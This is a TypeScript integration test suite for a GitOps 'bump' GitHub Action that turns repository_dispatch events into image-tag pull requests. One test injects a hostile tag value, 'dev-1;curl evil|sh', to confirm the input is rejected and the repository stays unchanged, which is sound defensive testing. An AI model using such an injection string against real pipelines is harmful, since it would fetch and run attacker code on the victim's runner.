// The committed bump bundle run as the runner runs it, against the local GitHub: a dispatch sent by
// the dispatch code arrives as a repository_dispatch event, and the bump step turns it into one PR.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parseBodyRecord } from '../../src/core/promotion/index.js';
import { sendRepositoryDispatch } from '../../src/github/dispatch.js';
import { devTag, exampleFiles, fastClient, OWNER, payload, repositorySnapshot } from '../integration/bump-fixtures.js';
import { startLocalGitHub, type LocalGitHub } from '../../tools/local-github/index.js';
import { runAction, type ActionRun, type RunActionOptions } from '../../tools/runner/harness.js';

const ENV_REPO = 'environments';
const WORKFLOW_TOKEN = 'ghs_workflow_token_of_this_run';
const APP_TOKEN = 'ghs_app_installation_token';
let github: LocalGitHub;
// Preloaded with --require: at exit, whether the process loaded node:crypto (a bump from a dispatch
// draws no ID, and the loader loads it only at its first use: 3 ms or more of a start).
const scratch = mkdtempSync(join(tmpdir(), 'bump-runner-'));
const cryptoRecorder = join(scratch, 'crypto-recorder.cjs');
const cryptoLoaded = join(scratch, 'crypto-loaded');
writeFileSync(
  cryptoRecorder,
  `process.on('exit', () => require('node:fs').writeFileSync(${JSON.stringify(cryptoLoaded)}, String(process.moduleLoadList.includes('NativeModule crypto'))));\n`,
);
after(() => rmSync(scratch, { recursive: true, force: true }));

before(async () => {
  github = await startLocalGitHub();
  await github.createRepository(OWNER, ENV_REPO, exampleFiles(), { collaborators: ['alice'] });
});
after(() => github.stop());

/** Sends a dispatch as the app repository's CI would, and returns the event the environment repository's run sees. */
async function dispatchEvent(fields: Parameters<typeof payload>[0]): Promise<Record<string, unknown>> {
  await sendRepositoryDispatch(
    fastClient(github),
    { owner: OWNER, name: ENV_REPO },
    'gitops-promote',
    payload(fields),
    {
      tokenKind: 'installation',
    },
  );
  const received = github.dispatches(OWNER, ENV_REPO).at(-1)!;
  return {
    action: received.event_type,
    client_payload: received.client_payload,
    repository: { full_name: `${OWNER}/${ENV_REPO}`, name: ENV_REPO, owner: { login: OWNER }, default_branch: 'main' },
    sender: { login: 'acme-ci[bot]' },
  };
}

function runBump(
  name: 'bump' | 'main',
  event: Record<string, unknown>,
  options: RunActionOptions = {},
): Promise<ActionRun> {
  return runAction(name, {
    eventName: 'repository_dispatch',
    event,
    repository: `${OWNER}/${ENV_REPO}`,
    apiUrl: github.url,
    token: WORKFLOW_TOKEN,
    ...options,
    inputs: { token: APP_TOKEN, ...(name === 'main' && { command: 'bump' }), ...options.inputs },
  });
}

describe('bump bundle under the runner', () => {
  test('dispatch -> bump opens the PR, sets every output and writes the table to the job summary', async (t) => {
    const tag = devTag(1763800000);
    const event = await dispatchEvent({ app: 'podinfo', tag, buildTimestamp: 1763800000 });
    const run = await runBump('bump', event, { env: { NODE_OPTIONS: `--require ${cryptoRecorder}` } });
    t.diagnostic(`bundle ran under node ${run.nodeVersion}`);
    assert.equal(run.exitCode, 0, run.stdout + run.stderr);
    assert.equal(readFileSync(cryptoLoaded, 'utf8'), 'false', 'node:crypto was loaded');
    const pull = github
      .pullRequests(OWNER, ENV_REPO)
      .find((candidate) => candidate.headRef === 'gitops-promote/dev/podinfo');
    assert.ok(pull);
    assert.deepEqual(run.outputs, {
      operation: 'created',
      'pull-request-number': String(pull.number),
      'pull-request-url': `${github.url.replace(/\/+$/, '')}/${OWNER}/${ENV_REPO}/pull/${pull.number}`.replace(
        /\/\/127/,
        '//127',
      ),
      'previous-tag': 'dev-3f2a9c1e-1763600000',
      'changed-files': '["releases/dev/podinfo.yaml"]',
      'commit-sha': parseBodyRecord(pull.body)!.commit,
    });
    assert.match(run.summary, /\| `releases\/dev\/podinfo.yaml` \(line 17\) \| `spec.values.image` \|/);
    // Where it came from: the source commit, the compare from the running tag's revision, the dispatch id.
    const sent = event.client_payload as { dispatchId: string; source: { sha: string; runUrl: string } };
    assert.ok(
      run.summary.includes(
        `- Source: [acme/podinfo@${sent.source.sha.slice(0, 12)}](https://github.com/acme/podinfo/commit/${sent.source.sha}) (\`refs/heads/dev\`), [build run](${sent.source.runUrl})`,
      ),
      run.summary,
    );
    assert.ok(
      run.summary.includes(
        `- Changes since \`3f2a9c1e\`: [compare](https://github.com/acme/podinfo/compare/3f2a9c1e...${sent.source.sha})`,
      ),
      run.summary,
    );
    assert.ok(run.summary.includes(`- Dispatch: \`${sent.dispatchId}\``), run.summary);
    assert.equal(run.annotations.filter((annotation) => annotation.level === 'warning').length, 0);
    const lines = run.stdout.split(/\r?\n/);
    assert.ok(lines.includes(`::add-mask::${APP_TOKEN}`), 'the token is masked');
    assert.ok(lines.includes(`::add-mask::${WORKFLOW_TOKEN}`), 'the workflow token is masked too');
  });

  test('the same dispatch again is unchanged, through the root action', async () => {
    const event = await dispatchEvent({ app: 'api', tag: devTag(1763800100), buildTimestamp: 1763800100 });
    const first = await runBump('bump', event);
    const second = await runBump('main', event);
    assert.equal(first.outputs.operation, 'created', first.stdout);
    assert.equal(second.exitCode, 0, second.stdout + second.stderr);
    assert.equal(second.outputs.operation, 'unchanged');
    assert.equal(second.outputs['pull-request-number'], first.outputs['pull-request-number']);
    assert.equal(second.outputs['commit-sha'], '');
  });

  test("the workflow's GITHUB_TOKEN works but warns, with the fix", async () => {
    const event = await dispatchEvent({ app: 'worker', tag: devTag(1763800200), buildTimestamp: 1763800200 });
    const run = await runBump('bump', event, { inputs: { token: WORKFLOW_TOKEN } });
    assert.equal(run.exitCode, 0, run.stdout);
    const warnings = run.annotations
      .filter((annotation) => annotation.level === 'warning')
      .map((annotation) => annotation.message);
    assert.ok(
      warnings.some((message) =>
        /GITHUB_TOKEN.*do not start pull_request workflows.*create-github-app-token/s.test(message),
      ),
      warnings.join('\n'),
    );
  });

  test('a skipped bump exits 0 with operation skipped and writes nothing', async () => {
    const before = await repositorySnapshot(github, ENV_REPO);
    const event = await dispatchEvent({ app: 'web', tag: '0.5.0', environment: 'prod' });
    const run = await runBump('bump', event);
    assert.equal(run.exitCode, 0, run.stdout);
    assert.equal(run.outputs.operation, 'skipped');
    assert.match(run.summary, /does not pass the tag policy of prod/);
    assert.equal(await repositorySnapshot(github, ENV_REPO), before);
  });

  test('a malicious payload fails in one line, and the repository is byte-identical', async () => {
    const before = await repositorySnapshot(github, ENV_REPO);
    const event = await dispatchEvent({ app: 'web', tag: devTag(1763800300) });
    const client_payload = { ...(event.client_payload as Record<string, unknown>), tag: 'dev-1;curl evil|sh\n' };
    const run = await runBump('bump', { ...event, client_payload });
    assert.equal(run.exitCode, 1);
    const errors = run.annotations.filter((annotation) => annotation.level === 'error');
    assert.equal(errors.length, 1);
    assert.match(errors[0]!.message, /^client_payload.tag: got "dev-1;curl evil\|sh\\n", expected/);
    assert.equal(await repositorySnapshot(github, ENV_REPO), before);
  });

  test('a repository the token cannot see fails in one line that says so and how to fix it, not "unexpected error"', async () => {
    const event = await dispatchEvent({ app: 'web', tag: devTag(1763800350) });
    const run = await runBump('bump', event, { inputs: { repository: `${OWNER}/missing-environments` } });
    assert.equal(run.exitCode, 1);
    const errors = run.annotations.filter((annotation) => annotation.level === 'error');
    assert.equal(errors.length, 1);
    assert.match(
      errors[0]!.message,
      /^bump failed reading the repository in acme\/missing-environments: GitHub answered 404 Not Found: acme\/missing-environments does not exist or a GitHub App installation token \(ghs_\) cannot see it .* Fix: /,
    );
    // The job summary is written on failure too, saying what failed and that nothing was written before.
    assert.match(
      run.summary,
      /^### Bump web to `dev-abcdef12-1763800350` in dev: failed\n\nbump failed reading the repository/,
    );
    assert.match(run.summary, /Nothing was written before the failure\./);
  });

  test('by hand without build-timestamp, an older tag ID is skipped, not rolled back to', async () => {
    const before = await repositorySnapshot(github, ENV_REPO);
    const run = await runBump(
      'bump',
      {},
      {
        eventName: 'workflow_dispatch',
        inputs: { app: 'podinfo', image: 'ghcr.io/acme/podinfo', tag: 'dev-00000000-1700000000', environment: 'dev' },
      },
    );
    assert.equal(run.exitCode, 0, run.stdout + run.stderr);
    assert.equal(run.outputs.operation, 'skipped');
    assert.match(run.summary, /which is not older than dev-00000000-1700000000/);
    assert.equal(await repositorySnapshot(github, ENV_REPO), before);
  });

  test('explicit inputs bump by hand outside a dispatch', async () => {
    const run = await runBump(
      'bump',
      {},
      {
        eventName: 'workflow_dispatch',
        inputs: { app: 'web', image: 'ghcr.io/acme/web', tag: devTag(1763800400), environment: 'dev' },
      },
    );
    assert.equal(run.exitCode, 0, run.stdout + run.stderr);
    assert.equal(run.outputs.operation, 'created');
    assert.deepEqual(JSON.parse(run.outputs['changed-files'] ?? '[]'), [
      'releases/dev/web/deployment.yaml',
      'releases/dev/web/kustomization.yaml',
    ]);
  });
});
